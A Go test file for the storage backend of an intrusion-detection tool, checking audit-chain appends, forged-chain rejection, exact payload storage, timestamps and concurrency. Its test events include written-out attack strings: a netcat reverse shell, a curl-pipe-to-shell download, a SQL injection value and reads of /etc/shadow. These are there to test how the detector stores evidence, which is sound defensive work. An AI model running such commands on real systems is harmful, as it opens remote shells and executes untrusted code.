package storetest

import (
	"encoding/json"
	"errors"
	"fmt"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/tripwire-project/tripwire/proto/batch"
	"github.com/tripwire-project/tripwire/proto/chain"
	"github.com/tripwire-project/tripwire/storage"
)

// fileEvent is a realistic file tripwire hit.
func fileEvent(rule, severity, path string, pid int32) chain.Event {
	uid := int64(1001)
	return chain.Event{
		Type: chain.TypeFile, Rule: rule, Severity: severity, Source: "fanotify",
		Path: path, Op: "read", Count: 1, PID: pid, PPID: 1, UID: &uid, User: "deploy",
		Exe: "/usr/bin/cat", Cmdline: "cat " + path,
	}
}

func netEvent(rule, severity string, pid int32) chain.Event {
	return chain.Event{
		Type: chain.TypeNetwork, Rule: rule, Severity: severity, Source: "netlink",
		PID: pid, User: "www-data", Exe: "/usr/sbin/sshd", Cmdline: "sshd: [accepted]",
	}
}

func procEvent(rule, severity string, pid int32) chain.Event {
	uid := int64(0)
	return chain.Event{
		Type: chain.TypeProcess, Rule: rule, Severity: severity, Source: "ebpf",
		PID: pid, PPID: pid - 1, UID: &uid, User: "root", Exe: "/usr/bin/nc",
		Cmdline: "nc -e /bin/sh 203.0.113.7 4444",
	}
}

// run builds n entries of c, alternating events of the three types with notices.
func run(c *Chain, n int, start time.Time) []batch.Entry {
	out := make([]batch.Entry, n)
	for i := range out {
		ts := start.Add(time.Duration(i) * time.Millisecond)
		switch i % 4 {
		case 0:
			out[i] = c.Event(ts, fileEvent("passwd-read", chain.SeverityCritical, "/etc/passwd", int32(1000+i)))
		case 1:
			out[i] = c.Event(ts, netEvent("ssh-honeypot", chain.SeverityWarn, int32(1000+i)))
		case 2:
			out[i] = c.Event(ts, procEvent("netcat", chain.SeverityCritical, int32(1000+i)))
		default:
			out[i] = c.Notice(ts, chain.KindAgent, chain.Notice{What: "config_reloaded"})
		}
	}
	return out
}

func audit(t *testing.T, s storage.Store, f storage.AuditFilter) []storage.AuditEntry {
	t.Helper()
	es, err := s.Audit(t.Context(), f)
	if err != nil {
		t.Fatalf("Audit(%+v): %v", f, err)
	}
	return es
}

// wantAudit checks that got holds exactly want, in order, as stored by host h.
func wantAudit(t *testing.T, got []storage.AuditEntry, h storage.Host, want []batch.Entry) {
	t.Helper()
	if len(got) != len(want) {
		t.Fatalf("Audit returned seqs %v, want %v", auditSeqs(got), seqs(want, func(e batch.Entry) uint64 { return e.Seq }))
	}
	for i, w := range want {
		g := got[i]
		if g.Host != h.Hostname || g.HostID != h.HostID || g.Seq != w.Seq || g.Kind != w.Kind ||
			g.PrevHash != w.PrevHash || g.Hash != w.Hash {
			t.Errorf("audit entry %d = {%s %s seq %d %s %s %s}, want {%s %s seq %d %s %s %s}", i,
				g.Host, g.HostID, g.Seq, g.Kind, g.PrevHash, g.Hash,
				h.Hostname, h.HostID, w.Seq, w.Kind, w.PrevHash, w.Hash)
		}
		wantTime(t, fmt.Sprintf("seq %d time", w.Seq), g.Time, w.Time)
		if g.Payload != string(w.Payload) {
			t.Errorf("seq %d payload differs from the text sent (%d bytes stored, %d sent)", w.Seq, len(g.Payload), len(w.Payload))
		}
		if h := chain.Hash(g.PrevHash, []byte(g.Payload)); h != g.Hash {
			t.Errorf("seq %d: stored hash %s, but sha256(prev_hash || payload) = %s", w.Seq, g.Hash, h)
		}
	}
}

func testAppendAndAudit(t *testing.T, s storage.Store) {
	h := hostWeb()
	mustRegister(t, s, h)
	c := NewChain()
	es := []batch.Entry{
		c.Notice(at(0), chain.KindAgent, chain.Notice{What: "agent_started", Message: "tripwire 0.3.0"}),
		c.Event(at(time.Second), fileEvent("passwd-read", chain.SeverityCritical, "/etc/passwd", 4242)),
		c.Event(at(2*time.Second), netEvent("ssh-honeypot", chain.SeverityWarn, 911)),
		c.Notice(at(3*time.Second), chain.KindGap, chain.Notice{What: "events_lost", Lost: 17}),
		c.Anchor(at(4*time.Second), chain.Anchor{PrevSegment: "00000001.seg", PrevSeq: 4, PrevHash: strings.Repeat("a", 64)}),
		c.Event(at(5*time.Second), procEvent("netcat", chain.SeverityCritical, 31337)),
	}
	mustAppend(t, s, h.HostID, es...)
	wantAudit(t, audit(t, s, storage.AuditFilter{}), h, es)
	last := es[len(es)-1]
	wantHead(t, s, h.HostID, last.Seq, last.Hash)
	if hs := hosts(t, s); len(hs) != 1 || hs[0].HeadSeq != last.Seq {
		t.Errorf("Hosts = %+v, want one host with head_seq %d", hs, last.Seq)
	}
	if err := s.AppendEntries(t.Context(), h.HostID, nil); err != nil {
		t.Errorf("AppendEntries with no entries: %v", err)
	}
}

func testResend(t *testing.T, s storage.Store) {
	h := hostWeb()
	mustRegister(t, s, h)
	es := run(NewChain(), 15, at(0))
	mustAppend(t, s, h.HostID, es[:10]...)
	mustAppend(t, s, h.HostID, es[4:]...) // overlaps 5..10
	mustAppend(t, s, h.HostID, es...)     // all of it again
	mustAppend(t, s, h.HostID, es[2:3]...)
	wantAudit(t, audit(t, s, storage.AuditFilter{}), h, es)
	wantHead(t, s, h.HostID, 15, es[14].Hash)
	alerts := alertsOf(t, s, storage.AlertFilter{})
	if want := len(events(es)); len(alerts) != want {
		t.Errorf("Alerts returned %d alerts after resends, want %d", len(alerts), want)
	}
}

func testHeldEntryKept(t *testing.T, s storage.Store) {
	h := hostWeb()
	mustRegister(t, s, h)
	es := run(NewChain(), 9, at(0))
	mustAppend(t, s, h.HostID, es[:6]...) // 1..6
	mustAppend(t, s, h.HostID, es[7:]...) // 8..9, past a hole at 7
	// A forged chain reusing seqs 3..9 (as a rewritten log or a cloned certificate
	// would send) must not replace what is held, below the head or past it.
	forged := NewChain()
	var fs []batch.Entry
	for i := range 9 {
		fs = append(fs, forged.Event(at(time.Hour), fileEvent("forged", chain.SeverityInfo, fmt.Sprintf("/tmp/%d", i), 1)))
	}
	mustAppend(t, s, h.HostID, fs[2:6]...)
	mustAppend(t, s, h.HostID, fs[7:]...)
	wantHead(t, s, h.HostID, 6, es[5].Hash)
	mustAppend(t, s, h.HostID, es[6]) // 7 fills the hole: the head is the held 9
	wantHead(t, s, h.HostID, 9, es[8].Hash)
	wantAudit(t, audit(t, s, storage.AuditFilter{}), h, es)
	for _, a := range alertsOf(t, s, storage.AlertFilter{}) {
		if a.RuleName == "forged" {
			t.Errorf("alert %s of the forged chain was stored", alertKey(a))
		}
	}
}

func testInvalid(t *testing.T, s storage.Store) {
	h := hostWeb()
	mustRegister(t, s, h)
	cases := []struct {
		name  string
		spoil func(e *batch.Entry)
	}{
		{"seq 0", func(e *batch.Entry) { e.Seq = 0 }},
		{"seq above 2^63-1", func(e *batch.Entry) { e.Seq = 1 << 63 }},
		{"payload not UTF-8", func(e *batch.Entry) { e.Payload = append(e.Payload[:len(e.Payload)-2:len(e.Payload)-2], 0xff, '}') }},
		{"payload with NUL", func(e *batch.Entry) { e.Payload = append(e.Payload[:len(e.Payload)-2:len(e.Payload)-2], 0, '}') }},
		{"rule not UTF-8", func(e *batch.Entry) { e.Rule = "r\xc3" }},
		{"time before 1678", func(e *batch.Entry) { e.Time = earliest.Add(-1) }},
		{"time after 2261", func(e *batch.Entry) { e.Time = latest.Add(1) }},
		{"zero time", func(e *batch.Entry) { e.Time = time.Time{} }},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			es := run(NewChain(), 3, at(0))
			tc.spoil(&es[1])
			err := s.AppendEntries(t.Context(), h.HostID, es)
			if !errors.Is(err, storage.ErrInvalidEntry) {
				t.Fatalf("AppendEntries: got %v, want an error wrapping storage.ErrInvalidEntry", err)
			}
			if got := audit(t, s, storage.AuditFilter{}); len(got) != 0 {
				t.Errorf("a refused call stored seqs %v", auditSeqs(got))
			}
			wantHead(t, s, h.HostID, 0, "")
		})
	}
}

// hostileEvent carries text that naive quoting, escaping or re-encoding would alter.
func hostileEvent(cmdline string) chain.Event {
	ev := fileEvent("hostile", chain.SeverityCritical, `/home/o'brien/"quoted" dir\with\backslashes/ünïcødé 日本語 🙂.txt`, 6666)
	ev.User = `ro"ot\'; DROP TABLE entries; --`
	ev.Cmdline = cmdline
	ev.Missing = []string{"ppid"}
	return ev
}

func hostileTexts() []string {
	return []string{
		"sh -c \"echo \\\"pwned\\\" > /tmp/x\\\\y && curl http://203.0.113.7/a|sh\"",
		"line one\nline two\r\n\ttabbed \x01\x1f control \u2028 \u2029 <script>&amp;</script>",
		"emoji 🙂 combining é (e\u0301) RTL \u202e txt.exe bom \ufeff",
		strings.Repeat("A", 64<<10-7) + " \"end\"",
	}
}

func testExactPayload(t *testing.T, s storage.Store) {
	h := hostWeb()
	mustRegister(t, s, h)
	c := NewChain()
	var es []batch.Entry
	for i, text := range hostileTexts() {
		es = append(es, c.Event(at(time.Duration(i)*time.Second), hostileEvent(text)))
	}
	// Payload text from an encoder other than Go's: escaped slashes, \u escapes of
	// plain letters, spaces between tokens. Stored and returned as sent, byte for byte.
	hand := chain.Event{Type: chain.TypeFile, Rule: "shadow", Severity: chain.SeverityCritical, Source: "fanotify",
		Path: "/etc/shadow", Op: "read", PID: 77, User: "\u00e8ve", Cmdline: "a\tb \"c\""}
	es = append(es, c.Text(at(10*time.Second), chain.KindEvent, &hand,
		`{"seq":%d,  "ts":"2026-03-14T10:27:03.589793Z" , "kind":"event","event":{"type":"FILE","rule":"shadow","severity":"CRITICAL","source":"fanotify","path":"\/etc\/shadow","op":"read","pid":77,"user":"\u00e8ve","cmdline":"a\tb \"c\""}}`+"\n  "))
	mustAppend(t, s, h.HostID, es...)
	wantAudit(t, audit(t, s, storage.AuditFilter{}), h, es)

	alerts := alertsOf(t, s, storage.AlertFilter{})
	if len(alerts) != len(es) {
		t.Fatalf("Alerts returned %d alerts, want %d", len(alerts), len(es))
	}
	for _, a := range alerts {
		want := hand
		if a.Seq <= uint64(len(hostileTexts())) {
			want = hostileEvent(hostileTexts()[a.Seq-1])
		}
		wantEventDetail(t, a, want)
	}
}

// testNanosecondTimes checks that event times come back to the nanosecond, before the
// epoch and at the ends of the accepted years too, that they order alerts and bound
// filters to the nanosecond, and that a stored alert carries the time of the live alert
// built from the same entry.
func testNanosecondTimes(t *testing.T, s storage.Store) {
	h := hostWeb()
	mustRegister(t, s, h)
	times := []time.Time{
		at(0), // 789 ns past a microsecond
		at(1), // one nanosecond later, in the same microsecond
		time.Date(2026, 3, 14, 10, 26, 54, 1, time.UTC),                   // one nanosecond past a second
		time.Date(2026, 3, 14, 10, 26, 55, 0, time.UTC),                   // no fraction at all
		time.Date(1969, 12, 31, 23, 59, 59, 999999999, time.UTC).In(zone), // before the epoch
		earliest,
		latest,
	}
	c := NewChain()
	var es []batch.Entry
	for i, ts := range times {
		es = append(es, c.Event(ts, fileEvent("passwd-read", chain.SeverityCritical, "/etc/passwd", int32(100+i))))
	}
	// The chain is stored out of time order, as a clock stepped back would write it.
	mustAppend(t, s, h.HostID, es...)
	wantAudit(t, audit(t, s, storage.AuditFilter{}), h, es)

	newest := slices.Clone(es)
	slices.SortFunc(newest, func(a, b batch.Entry) int { return b.Time.Compare(a.Time) })
	alerts := alertsOf(t, s, storage.AlertFilter{})
	if g, w := seqs(alerts, func(a storage.Alert) uint64 { return a.Seq }), seqs(newest, func(e batch.Entry) uint64 { return e.Seq }); !slices.Equal(g, w) {
		t.Fatalf("alerts in seqs %v, want newest first to the nanosecond: %v", g, w)
	}
	for i, e := range newest {
		a := alerts[i]
		wantTime(t, fmt.Sprintf("alert seq %d timestamp", e.Seq), a.Timestamp, e.Time)
		live, _, err := storage.AlertFromEntry(h.Hostname, h.HostID, e)
		if err != nil {
			t.Fatal(err)
		}
		// What a follower compares: the timestamps as the API and the stream write them.
		got, _ := json.Marshal(a.Timestamp)
		want, _ := json.Marshal(live.Timestamp)
		if a.AlertID != live.AlertID || string(got) != string(want) {
			t.Errorf("stored alert seq %d = %s at %s, live alert = %s at %s", e.Seq, a.AlertID, got, live.AlertID, want)
		}
	}

	// A one-nanosecond window holds exactly the entry at its start, even with another
	// entry a nanosecond later in the same microsecond.
	for i, ts := range times {
		f := storage.AlertFilter{From: ts, To: ts.Add(1)}
		if got := alertsOf(t, s, f); len(got) != 1 || got[0].Seq != es[i].Seq {
			t.Errorf("Alerts in [%s, +1ns) returned seqs %v, want [%d]", ts.Format(time.RFC3339Nano),
				seqs(got, func(a storage.Alert) uint64 { return a.Seq }), es[i].Seq)
		}
		wantAudit(t, audit(t, s, storage.AuditFilter{From: ts, To: ts.Add(1)}), h, es[i:i+1])
	}
}

func testConcurrent(t *testing.T, s storage.Store) {
	const writers, batches, per = 4, 8, 25
	var wg sync.WaitGroup
	errs := make(chan error, writers*batches*4)
	for w := range writers {
		h := hostWeb()
		h.HostID, h.Hostname = fmt.Sprintf("host-%d", w), fmt.Sprintf("web-%d", w)
		mustRegister(t, s, h)
		es := run(NewChain(), batches*per, at(time.Duration(w)*time.Minute))
		wg.Go(func() {
			for b := range batches {
				if err := s.AppendEntries(t.Context(), h.HostID, es[b*per:(b+1)*per]); err != nil {
					errs <- fmt.Errorf("appending batch %d of %s: %w", b, h.HostID, err)
					return
				}
				if err := s.TouchHost(t.Context(), h.HostID, seen(time.Duration(b)*time.Second)); err != nil {
					errs <- fmt.Errorf("touching %s: %w", h.HostID, err)
				}
			}
		})
		wg.Go(func() {
			for range batches {
				if _, _, err := s.Head(t.Context(), h.HostID); err != nil {
					errs <- fmt.Errorf("reading head of %s: %w", h.HostID, err)
				}
				if _, err := s.Alerts(t.Context(), storage.AlertFilter{Host: h.Hostname}); err != nil {
					errs <- fmt.Errorf("reading alerts of %s: %w", h.HostID, err)
				}
			}
		})
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Error(err)
	}
	hs := hosts(t, s)
	if len(hs) != writers {
		t.Fatalf("Hosts returned %d hosts, want %d", len(hs), writers)
	}
	for _, h := range hs {
		if h.HeadSeq != batches*per {
			t.Errorf("host %s head_seq = %d, want %d", h.HostID, h.HeadSeq, batches*per)
		}
	}
}

func testHeadContiguous(t *testing.T, s storage.Store) {
	wantHead(t, s, "never-seen", 0, "")
	h := hostWeb()
	mustRegister(t, s, h)
	es := run(NewChain(), 8, at(0))
	mustAppend(t, s, h.HostID, es[0:5]...) // 1..5
	wantHead(t, s, h.HostID, 5, es[4].Hash)
	mustAppend(t, s, h.HostID, es[6:8]...) // 7..8, past a hole at 6
	wantHead(t, s, h.HostID, 5, es[4].Hash)
	mustAppend(t, s, h.HostID, es[5]) // 6 fills the hole
	wantHead(t, s, h.HostID, 8, es[7].Hash)
	if hs := hosts(t, s); len(hs) != 1 || hs[0].HeadSeq != 8 {
		t.Errorf("Hosts = %+v, want one host with head_seq 8", hs)
	}
}

func testHeadAnyOrder(t *testing.T, s storage.Store) {
	h := hostWeb()
	mustRegister(t, s, h)
	es := run(NewChain(), 9, at(0))
	mustAppend(t, s, h.HostID, es[2:4]...) // 3..4 with no 1
	wantHead(t, s, h.HostID, 0, "")
	mustAppend(t, s, h.HostID, es[6], es[5]) // 7, 6: still no 1
	wantHead(t, s, h.HostID, 0, "")
	mustAppend(t, s, h.HostID, es[1], es[0]) // 2, 1: head 4 (5 missing)
	wantHead(t, s, h.HostID, 4, es[3].Hash)
	rev := slices.Clone(es[4:])
	slices.Reverse(rev)
	mustAppend(t, s, h.HostID, rev...) // 9..5, half held already
	wantHead(t, s, h.HostID, 9, es[8].Hash)
	wantAudit(t, audit(t, s, storage.AuditFilter{}), h, es)
}

func testAuditFilters(t *testing.T, s storage.Store) {
	web, db := hostWeb(), hostDB()
	mustRegister(t, s, web)
	mustRegister(t, s, db)
	webEs := run(NewChain(), 10, at(0))
	dbEs := run(NewChain(), 6, at(0))
	mustAppend(t, s, web.HostID, webEs...)
	mustAppend(t, s, db.HostID, dbEs...)

	// (host_id, seq) order: db's id sorts before web's.
	all := audit(t, s, storage.AuditFilter{})
	wantAudit(t, all[:6], db, dbEs)
	wantAudit(t, all[6:], web, webEs)

	wantAudit(t, audit(t, s, storage.AuditFilter{Host: web.Hostname}), web, webEs)
	wantAudit(t, audit(t, s, storage.AuditFilter{Host: db.HostID}), db, dbEs)
	// Entries are a millisecond apart: [2 ms, 5 ms) holds seqs 3..5 of each host, and the
	// bounds are exact to the nanosecond, also within the microsecond of a stored time.
	wantAudit(t, audit(t, s, storage.AuditFilter{Host: web.HostID, From: at(2 * time.Millisecond), To: at(5 * time.Millisecond)}), web, webEs[2:5])
	wantAudit(t, audit(t, s, storage.AuditFilter{Host: web.HostID, From: at(2*time.Millisecond + 1), To: at(5*time.Millisecond + 1)}), web, webEs[3:6])
	wantAudit(t, audit(t, s, storage.AuditFilter{Host: web.HostID, From: at(2*time.Millisecond - 100), To: at(5*time.Millisecond - 100)}), web, webEs[2:5])
	wantAudit(t, audit(t, s, storage.AuditFilter{Host: web.HostID, From: at(2 * time.Millisecond), To: at(2*time.Millisecond + 1)}), web, webEs[2:3])
	wantAudit(t, audit(t, s, storage.AuditFilter{Host: "nobody"}), web, nil)

	var paged []storage.AuditEntry
	for off := 0; off < 20; off += 3 {
		paged = append(paged, audit(t, s, storage.AuditFilter{Limit: 3, Offset: off})...)
	}
	key := func(e storage.AuditEntry) string { return fmt.Sprintf("%s/%d", e.HostID, e.Seq) }
	if got, want := keys(paged, key), keys(all, key); !slices.Equal(got, want) {
		t.Errorf("pages of 3 = %v, want %v", got, want)
	}
}
